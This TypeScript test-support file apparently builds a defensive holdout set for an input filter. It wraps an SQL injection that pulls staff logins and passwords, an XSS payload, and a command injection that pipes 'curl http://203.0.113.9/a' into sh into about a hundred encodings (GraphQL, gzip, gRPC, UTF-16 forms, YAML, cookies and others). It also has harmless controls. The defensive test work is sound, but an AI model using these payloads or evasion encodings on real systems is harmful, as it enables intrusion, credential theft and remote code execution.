import { deflateRawSync, gzipSync } from 'node:zlib';
import { archive } from '../../support/archive.ts';
import { browserParts, client, get, noise } from '../../support/clients.ts';
import type { HoldoutRequest } from '../../support/request.ts';

const SQL = "7' UNION SELECT login,pw FROM staff -- ";
const SCRIPT = '<img src=x onerror=alert(document.domain)>';
const COMMAND = ';curl http://203.0.113.9/a|sh';
const HONEST = "It's a gift; please ring twice";

const base64 = (bytes: string | Buffer): string => Buffer.from(bytes as string).toString('base64');
const body = (
  type: string | null,
  content: string | Buffer,
  target = '/api/items',
  ...headers: string[]
): HoldoutRequest =>
  client('POST', target, [...(type === null ? [] : ['Content-Type', type]), ...headers], content);
const json = (document: unknown): HoldoutRequest =>
  body('application/json', JSON.stringify(document), '/graphql');
const percentUtf16 = (text: string, order: 'le' | 'be', bom: boolean): string => {
  const bytes = Buffer.from(`${bom ? '\ufeff' : ''}${text}`, 'utf16le');
  if (order === 'be') bytes.swap16();
  return [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
};

/** MessagePack of maps, lists and texts. */
function packed(value: unknown): Buffer {
  if (typeof value === 'string') {
    const text = Buffer.from(value);
    return Buffer.concat([Buffer.from(text.length < 32 ? [0xa0 | text.length] : [0xd9, text.length]), text]);
  }
  if (typeof value === 'number') return Buffer.from([value & 0x7f]);
  if (Array.isArray(value)) return Buffer.concat([Buffer.from([0x90 | value.length]), ...value.map(packed)]);
  const entries = Object.entries(value as object);
  return Buffer.concat([
    Buffer.from([0x80 | entries.length]),
    ...entries.flatMap(([name, one]) => [packed(name), packed(one)]),
  ]);
}

/** The same in CBOR. */
function cbor(value: unknown): Buffer {
  const head = (major: number, length: number): Buffer =>
    Buffer.from(length < 24 ? [(major << 5) | length] : [(major << 5) | 24, length]);
  if (typeof value === 'string')
    return Buffer.concat([head(3, Buffer.byteLength(value)), Buffer.from(value)]);
  if (typeof value === 'number') return head(0, value);
  if (Array.isArray(value)) return Buffer.concat([head(4, value.length), ...value.map(cbor)]);
  const entries = Object.entries(value as object);
  return Buffer.concat([
    head(5, entries.length),
    ...entries.flatMap(([name, one]) => [cbor(name), cbor(one)]),
  ]);
}

/** Of protocol buffers, fields by number: texts, numbers, and messages. */
function proto(fields: readonly (readonly [number, string | number | Buffer])[]): Buffer {
  return Buffer.concat(
    fields.map(([number, value]) => {
      if (typeof value === 'number') return Buffer.from([number << 3, value]);
      const bytes = Buffer.from(value as string);
      return Buffer.concat([Buffer.from([(number << 3) | 2, bytes.length]), bytes]);
    }),
  );
}
const grpcFrame = (message: Buffer, flags = 0): Buffer => {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
};
/** BSON of one document of texts. */
function bson(document: Readonly<Record<string, string>>): Buffer {
  const fields = Object.entries(document).map(([name, text]) => {
    const value = Buffer.from(`${text}\0`);
    const length = Buffer.alloc(4);
    length.writeInt32LE(value.length);
    return Buffer.concat([Buffer.from([2]), Buffer.from(`${name}\0`), length, value]);
  });
  const all = Buffer.concat([...fields, Buffer.from([0])]);
  const length = Buffer.alloc(4);
  length.writeInt32LE(all.length + 4);
  return Buffer.concat([length, all]);
}
const mixed = (inner: string): string =>
  `--o\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--o\r\nContent-Disposition: form-data; name="files"\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Disposition: file; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n${inner}\r\n--i--\r\n--o--\r\n`;
const card = (note: string): string =>
  `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nNOTE:${note}\r\nEND:VCARD\r\n`;
const folded = (text: string): string => text.replace(/.{12}/g, '$&\r\n ');
const calendar = (summary: string): string =>
  `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:7\r\nSUMMARY:${summary}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`;
const quotedPrintable = (text: string): string =>
  [...text].map((sign) => `=${sign.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('');
const deep = (value: string, depth: number, open = '{"a":', close = '}'): string =>
  `${open.repeat(depth)}${JSON.stringify(value)}${close.repeat(depth)}`;
const zip = (text: string): Buffer => archive({ 'word/document.xml': `<w:t>${text}</w:t>` });
const yaml = 'application/yaml';

/** Each shape as a server reads it, with a text in it. */
const SHAPES: Readonly<Record<string, (text: string) => HoldoutRequest>> = {
  'GraphQL: in a batch': (text) =>
    json([{ query: '{me{id}}' }, { query: 'query($t:String!){find(t:$t){id}}', variables: { t: text } }]),
  'GraphQL: nested variables': (text) =>
    json({ query: 'mutation($i:In!){save(i:$i){id}}', variables: { i: { a: [{ b: { c: [text] } }] } } }),
  'GraphQL: an argument of an alias': (text) =>
    json({ query: `{ a: find(t: "ok") { id } b: find(t: ${JSON.stringify(text)}) { id } }` }),
  'GraphQL: a block string': (text) => json({ query: `{ find(t: """\n  ${text}\n""") { id } }` }),
  'GraphQL: in a fragment': (text) =>
    json({
      query: `query{...A} fragment A on Q{...B} fragment B on Q{find(t:${JSON.stringify(text)}){id} ...A}`,
    }),
  'GraphQL: a default of a variable': (text) =>
    json({ query: `query($t: String = ${JSON.stringify(text)}) { find(t: $t) { id } }` }),
  'GraphQL: an escape of its own': (text) =>
    json({
      query: `{ find(t: "${[...text].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}") { id } }`,
    }),
  'GraphQL: variables as a text': (text) =>
    json({ query: 'query($t:String){find(t:$t){id}}', variables: JSON.stringify({ t: text }) }),
  'GraphQL: an upload': (text) =>
    browserParts('/graphql', [
      {
        name: 'operations',
        content: JSON.stringify({
          query: 'mutation($f:Upload!,$t:String){up(f:$f,t:$t)}',
          variables: { f: null, t: text },
        }),
      },
      { name: 'map', content: '{"0":["variables.f"]}' },
      { name: '0', file: 'a.txt', type: 'text/plain', content: 'a' },
    ]),
  'GraphQL: an extension': (text) => json({ query: '{me{id}}', extensions: { client: { name: text } } }),
  'GraphQL: by GET, variables': (text) =>
    get('/graphql', { query: 'query($t:String){find(t:$t){id}}', variables: JSON.stringify({ t: text }) }),
  'GraphQL: of its own type': (text) =>
    body('application/graphql', `query { find(t: ${JSON.stringify(text)}) { id } }`, '/graphql'),
  'base64: a document in a value': (text) =>
    json({ file: { name: 'a.json', data: base64(JSON.stringify({ note: text })) } }),
  'base64: in lines of 76': (text) =>
    json({ data: base64(`${'a quiet text. '.repeat(6)}${text}`).replace(/.{76}/g, '$&\r\n') }),
  'base64: gzip of a document': (text) => json({ data: base64(gzipSync(JSON.stringify({ note: text }))) }),
  'base64: deflate of a document': (text) =>
    json({
      data: base64(
        deflateRawSync(JSON.stringify({ note: text, and: 'a longer tail of words to be packed' })),
      ),
    }),
  'base64: a data URL': (text) => json({ avatar: `data:text/html;base64,${base64(`<p>${text}</p>`)}` }),
  'base64: a data URL that is escaped': (text) =>
    json({ avatar: `data:text/html;charset=utf-8,${encodeURIComponent(`<p>${text}</p>`)}` }),
  'base64: twice': (text) => json({ data: base64(base64(JSON.stringify({ note: text }))) }),
  'base64: an archive of words': (text) => json({ document: base64(zip(text)) }),
  'calendar: a summary': (text) => body('text/calendar', calendar(text)),
  'calendar: folded': (text) => body('text/calendar', calendar(folded(text))),
  'card: a note': (text) => body('text/vcard', card(text)),
  'card: folded': (text) => body('text/vcard', card(folded(text))),
  'card: quoted-printable': (text) =>
    body(
      'text/x-vcard',
      `BEGIN:VCARD\r\nVERSION:2.1\r\nFN:Ann\r\nNOTE;ENCODING=QUOTED-PRINTABLE:${quotedPrintable(text)}\r\nEND:VCARD\r\n`,
    ),
  'card: base64': (text) =>
    body(
      'text/vcard',
      `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nNOTE;ENCODING=b:${base64(`Note: ${text}`)}\r\nEND:VCARD\r\n`,
    ),
  'card: jCard': (text) =>
    body(
      'application/vcard+json',
      JSON.stringify([
        'vcard',
        [
          ['version', {}, 'text', '4.0'],
          ['note', {}, 'text', text],
        ],
      ]),
    ),
  'calendar: xCal': (text) =>
    body(
      'application/calendar+xml',
      `<icalendar xmlns="urn:ietf:params:xml:ns:icalendar-2.0"><vcalendar><components><vevent><properties><summary><text>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</text></summary></properties></vevent></components></vcalendar></icalendar>`,
    ),
  'parts: in a part': (text) => body('multipart/form-data; boundary=o', mixed(text)),
  'parts: three deep': (text) =>
    body(
      'multipart/mixed; boundary=z',
      `--z\r\nContent-Type: multipart/form-data; boundary=o\r\n\r\n${mixed(text)}\r\n--z--\r\n`,
    ),
  'parts: a whole request of HTTP': (text) =>
    body(
      'multipart/mixed; boundary=b',
      `--b\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nPOST /items HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ note: text })}\r\n--b--\r\n`,
      '/$batch',
    ),
  'parts: the address of a request of HTTP': (text) =>
    body(
      'multipart/mixed; boundary=b',
      `--b\r\nContent-Type: application/http\r\n\r\nGET /items?q=${encodeURIComponent(text)} HTTP/1.1\r\n\r\n\r\n--b--\r\n`,
      '/$batch',
    ),
  'parts: a name of RFC 2231 in pieces': (text) =>
    body(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename*0*=UTF-8''${encodeURIComponent(text.slice(0, 14))}; filename*1*=${encodeURIComponent(text.slice(14))}\r\n\r\nx\r\n--b--\r\n`,
    ),
  'parts: a boundary with blanks': (text) =>
    body(
      'multipart/form-data; boundary="a b c"',
      `--a b c\r\nContent-Disposition: form-data; name="q"\r\n\r\n${text}\r\n--a b c--\r\n`,
    ),
  'parts: line feeds alone': (text) =>
    body(
      'multipart/form-data; boundary=b',
      `--b\nContent-Disposition: form-data; name="q"\n\n${text}\n--b--\n`,
    ),
  'parts: a document in UTF-16': (text) =>
    body(
      'multipart/form-data; boundary=b',
      Buffer.concat([
        Buffer.from(
          '--b\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: application/json; charset=utf-16le\r\n\r\n',
        ),
        Buffer.from(JSON.stringify({ note: text }), 'utf16le'),
        Buffer.from('\r\n--b--\r\n'),
      ]),
    ),
  'parts: a form in a part': (text) =>
    body(
      'multipart/related; boundary=b',
      `--b\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&q=${encodeURIComponent(text)}\r\n--b--\r\n`,
    ),
  'lines of JSON: CR alone': (text) =>
    body('application/x-ndjson', `{"a":1}\r${JSON.stringify({ note: text })}\r{"b":2}\r`),
  'lines of JSON: record separators': (text) =>
    body('application/json-seq', `\x1e{"a":1}\n\x1e${JSON.stringify({ note: text })}\n`),
  'lines of JSON: without lines': (text) =>
    body('application/jsonl', `{"a":1}${JSON.stringify({ note: text })}{"b":2}`),
  'lines of JSON: lengths in front': (text) =>
    body('application/json', `${JSON.stringify({ note: text }).length}\n${JSON.stringify({ note: text })}`),
  'lines of JSON: called a text': (text) =>
    body('text/plain', `{"a":1}\n${JSON.stringify({ note: text })}\n`),
  MessagePack: (text) => body('application/msgpack', packed({ id: 7, note: text, tags: ['a'] })),
  'MessagePack: within lists': (text) => body('application/x-msgpack', packed({ a: [{ b: [{ c: text }] }] })),
  'MessagePack: a document within': (text) =>
    body('application/msgpack', packed({ a: JSON.stringify({ note: text }) })),
  CBOR: (text) => body('application/cbor', cbor({ id: 7, note: text })),
  'CBOR: within lists': (text) => body('application/cbor', cbor([{ a: [{ b: text }] }])),
  'CBOR: a text in pieces': (text) =>
    body(
      'application/cbor',
      Buffer.concat([
        Buffer.from([0xa1]),
        cbor('note'),
        Buffer.from([0x7f]),
        cbor(text.slice(0, 9)),
        cbor(text.slice(9)),
        Buffer.from([0xff]),
      ]),
    ),
  BSON: (text) => body('application/bson', bson({ name: 'ann', note: text })),
  'gRPC: a message': (text) =>
    body(
      'application/grpc',
      grpcFrame(
        proto([
          [1, 7],
          [2, text],
        ]),
      ),
    ),
  'gRPC: a message within': (text) =>
    body(
      'application/grpc+proto',
      grpcFrame(
        proto([
          [
            1,
            proto([
              [1, 'ann'],
              [2, proto([[3, text]])],
            ]),
          ],
        ]),
      ),
    ),
  'gRPC: for the web': (text) => body('application/grpc-web+proto', grpcFrame(proto([[1, text]]))),
  'gRPC: for the web, as text': (text) =>
    body(
      'application/grpc-web-text',
      base64(
        grpcFrame(
          proto([
            [1, text],
            [2, 9],
          ]),
        ),
      ),
    ),
  'gRPC: for the web, in two pieces': (text) =>
    body(
      'application/grpc-web-text',
      `${base64(grpcFrame(proto([[1, 'ok']])))}${base64(grpcFrame(proto([[1, text]])))}`,
    ),
  'gRPC: packed': (text) =>
    body(
      'application/grpc',
      grpcFrame(
        gzipSync(
          proto([
            [1, 7],
            [2, text],
          ]),
        ),
        1,
      ),
      '/shop.Items/Find',
      'grpc-encoding',
      'gzip',
    ),
  'gRPC: Connect': (text) =>
    body('application/connect+json', grpcFrame(Buffer.from(JSON.stringify({ note: text })))),
  'protocol buffers: beside a picture': (text) =>
    body(
      'application/grpc',
      grpcFrame(Buffer.concat([Buffer.from([0x0a, 0x80, 0xf1, 0x04]), noise(80_000), proto([[4, text]])])),
    ),
  'protocol buffers alone': (text) =>
    body(
      'application/x-protobuf',
      proto([
        [1, 3],
        [4, text],
      ]),
    ),
  'a form with a byte order mark': (text) =>
    body('application/x-www-form-urlencoded', `\ufeffq=${encodeURIComponent(text)}`),
  'a form in UTF-16, percent': (text) =>
    body('application/x-www-form-urlencoded; charset=utf-16le', `q=${percentUtf16(text, 'le', false)}`),
  'a form in UTF-16 with a mark, percent': (text) =>
    body('application/x-www-form-urlencoded', `q=${percentUtf16(text, 'le', true)}`),
  'a form in UTF-16 of the other order, percent': (text) =>
    body('application/x-www-form-urlencoded; charset=utf-16', `q=${percentUtf16(text, 'be', true)}`),
  'a form with %u': (text) =>
    body(
      'application/x-www-form-urlencoded',
      `q=${[...text].map((sign) => `%u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}`,
    ),
  'a form whose charset is a field': (text) =>
    body('application/x-www-form-urlencoded', `_charset_=utf-16le&q=${percentUtf16(text, 'le', false)}`),
  'JSON5: quotes and names': (text) =>
    body('application/json5', `{note: '${text.replaceAll("'", "\\'")}', n: +1, /* c */ h: 0xff,}`),
  'JSON5: a text over lines': (text) =>
    body(
      'application/json5',
      `{note: "${text.slice(0, 10).replaceAll('"', '\\"')}\\\n${text.slice(10).replaceAll('"', '\\"')}"}`,
    ),
  'JSON5: as JSON, hexadecimal': (text) =>
    body(
      'application/json',
      `{note: '${[...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'}`,
    ),
  'JSON with comments': (text) =>
    body('application/json', `// a\n{ /* "b": 1 */ "note": /* c */ ${JSON.stringify(text)}, }`),
  'JSON: 60 deep': (text) => body('application/json', deep(text, 60)),
  'JSON: 400 deep': (text) => body('application/json', deep(text, 400)),
  'JSON: 90 lists deep': (text) => body('application/json', deep(text, 90, '[', ']')),
  'JSON: in a text, five times': (text) =>
    json({ a: JSON.stringify({ b: JSON.stringify({ c: JSON.stringify({ d: JSON.stringify(text) }) }) }) }),
  'JSON: with a byte order mark': (text) =>
    body('application/json', `\ufeff${JSON.stringify({ note: text })}`),
  'JSON: in UTF-32': (text) =>
    body(
      'application/json',
      Buffer.from([...JSON.stringify({ note: text })].flatMap((sign) => [0, 0, 0, sign.charCodeAt(0)])),
    ),
  'JSON: behind a prefix against inclusion': (text) =>
    body('application/json', `)]}',\n${JSON.stringify({ note: text })}`),
  'JSON: a name twice': (text) => body('application/json', `{"note":${JSON.stringify(text)},"note":"ok"}`),
  'YAML: an anchor': (text) =>
    body(yaml, `base: &b\n  note: ${JSON.stringify(text)}\nitem:\n  <<: *b\n  id: 7\n`),
  'YAML: a folded text': (text) => body(yaml, `note: >-\n  ${text.slice(0, 12)}\n  ${text.slice(12)}\n`),
  'YAML: a literal text': (text) => body(yaml, `note: |+\n    ${text}\n`),
  'YAML: a key in question': (text) => body(yaml, `? ${JSON.stringify(text)}\n: 1\n`),
  'YAML: a flow': (text) => body(yaml, `{note: ${JSON.stringify(text)}, id: 7}`),
  'YAML: escapes': (text) =>
    body(
      yaml,
      `note: "${[...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"\n`,
    ),
  'YAML: binary': (text) => body(yaml, `note: !!binary |\n  ${base64(`text ${text}`)}\n`),
  'YAML: a second document': (text) => body(yaml, `a: 1\n---\nnote: ${JSON.stringify(text)}\n`),
  'cookie: JSON': (text) =>
    client('GET', '/', ['Cookie', `prefs=${encodeURIComponent(JSON.stringify({ note: text }))}`]),
  'cookie: JSON in base64': (text) =>
    client('GET', '/', ['Cookie', `session=${base64(JSON.stringify({ note: text }))}`]),
  'cookie: of Express': (text) =>
    client('GET', '/', ['Cookie', `prefs=${encodeURIComponent(`j:${JSON.stringify({ note: text })}`)}`]),
  'cookie: signed by Rails': (text) =>
    client('GET', '/', [
      'Cookie',
      `_app=${encodeURIComponent(`${base64(JSON.stringify({ note: text }))}--${'0a1b2c3d'.repeat(5)}`)}`,
    ]),
  'cookie: of Flask, packed': (text) =>
    client('GET', '/', [
      'Cookie',
      `session=.${Buffer.from(gzipSync(JSON.stringify({ note: text }))).toString('base64url')}.Zk81qL.sig`,
    ]),
  'cookie: quoted, octal': (text) =>
    client('GET', '/', [
      'Cookie',
      `note="${[...text].map((sign) => (/[\w ]/.test(sign) ? sign : `\\${sign.charCodeAt(0).toString(8).padStart(3, '0')}`)).join('')}"`,
    ]),
  'TOML: a text': (text) => body('application/toml', `[item]\nnote = ${JSON.stringify(text)}\n`),
  'TOML: over lines': (text) => body('application/toml', `note = """\n${text}"""\n`),
  INI: (text) => body('text/plain', `[item]\nnote = ${text}\n`),
  'plist of XML': (text) =>
    body(
      'application/x-plist',
      `<?xml version="1.0"?><plist version="1.0"><dict><key>note</key><string>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</string></dict></plist>`,
    ),
  'XML-RPC': (text) =>
    body(
      'text/xml',
      `<methodCall><methodName>a</methodName><params><param><value><base64>${base64(`note ${text}`)}</base64></value></param></params></methodCall>`,
    ),
  'SOAP: CDATA in pieces': (text) =>
    body(
      'application/soap+xml',
      `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><q><![CDATA[${text.slice(0, 8)}]]><![CDATA[${text.slice(8)}]]></q></s:Body></s:Envelope>`,
    ),
  'events of a server': (text) =>
    body('text/event-stream', `event: note\ndata: ${JSON.stringify({ note: text })}\n\n`),
  'Socket.IO by polling': (text) =>
    body('text/plain;charset=UTF-8', `42["note",${JSON.stringify({ text })}]`),
  'Turbo Stream': (text) =>
    body(
      'text/vnd.turbo-stream.html',
      `<turbo-stream action="append" target="a"><template>${text}</template></turbo-stream>`,
    ),
  'React server action': (text) =>
    body('text/plain;charset=UTF-8', JSON.stringify([{ note: text }]), '/', 'Next-Action', '7f'.repeat(20)),
  DWR: (text) =>
    body(
      'text/plain',
      `callCount=1\nc0-scriptName=Items\nc0-methodName=find\nc0-param0=string:${encodeURIComponent(text)}\nbatchId=0\n`,
    ),
  GWT: (text) =>
    body(
      'text/x-gwt-rpc; charset=utf-8',
      `7|0|5|https://shop.example/app/|0A1B|com.shop.Items|find|${text.replaceAll('\\', '\\\\').replaceAll('|', '\\!')}|1|2|3|4|1|5|5|`,
    ),
  AMF: (text) =>
    body(
      'application/x-amf',
      Buffer.concat([
        Buffer.from([0, 3, 0, 0, 0, 1, 0, 4]),
        Buffer.from('find'),
        Buffer.from([0, 2]),
        Buffer.from('/1'),
        Buffer.from([0, 0, 0, text.length + 3, 2, 0, text.length]),
        Buffer.from(text),
      ]),
    ),
  'PHP: serialised': (text) =>
    body(
      'application/x-www-form-urlencoded',
      `state=${encodeURIComponent(`a:1:{s:4:"note";s:${Buffer.byteLength(text)}:"${text}";}`)}`,
    ),
  'a table of tabs': (text) => body('text/tab-separated-values', `id\tnote\n1\t${text}\n`),
  'Avro in JSON': (text) =>
    body(
      'application/vnd.kafka.json.v2+json',
      JSON.stringify({ records: [{ key: 'a', value: { note: text } }] }),
    ),
  'Kafka: in base64': (text) =>
    body(
      'application/vnd.kafka.binary.v2+json',
      JSON.stringify({ records: [{ value: base64(JSON.stringify({ note: text })) }] }),
    ),
};

const each = (texts: Readonly<Record<string, string>>): Record<string, HoldoutRequest> =>
  Object.fromEntries(
    Object.entries(SHAPES).flatMap(([shape, send]) =>
      Object.entries(texts).map(([kind, text]) => [`${shape}, ${kind}`, send(text)]),
    ),
  );

/** Of the set `odd-bodies`: forms of bodies and values that no other set has, each with three attacks, */
export const ODD_BODY_ATTACKS: Readonly<Record<string, HoldoutRequest>> = each({
  SQL,
  script: SCRIPT,
  command: COMMAND,
});
/** and with a harmless text. */
export const ODD_BODIES: Readonly<Record<string, HoldoutRequest>> = each({ 'a note': HONEST });
